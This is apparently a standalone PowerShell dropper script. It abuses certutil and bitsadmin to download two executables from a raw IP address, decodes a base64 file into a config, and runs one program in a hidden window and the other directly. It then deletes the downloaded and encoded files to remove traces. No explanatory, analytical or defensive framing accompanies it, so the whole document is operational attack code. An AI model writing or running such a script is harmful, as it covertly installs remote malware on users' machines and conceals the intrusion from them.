$work = "$env:PUBLIC\Downloads"
Set-Location -Path $work

certutil.exe -urlcache -split -f http://198.51.100.77/d/svc.exe svc.exe
certutil.exe -decode cfg.b64 cfg.ini
Start-Process -FilePath "$work\svc.exe" -WindowStyle Hidden

bitsadmin /transfer job1 /download /priority high http://198.51.100.77/d/x.exe $work\x.exe
& "$work\x.exe"
Remove-Item -Path "$work\svc.exe", "$work\x.exe", "$work\cfg.b64" -ErrorAction SilentlyContinue
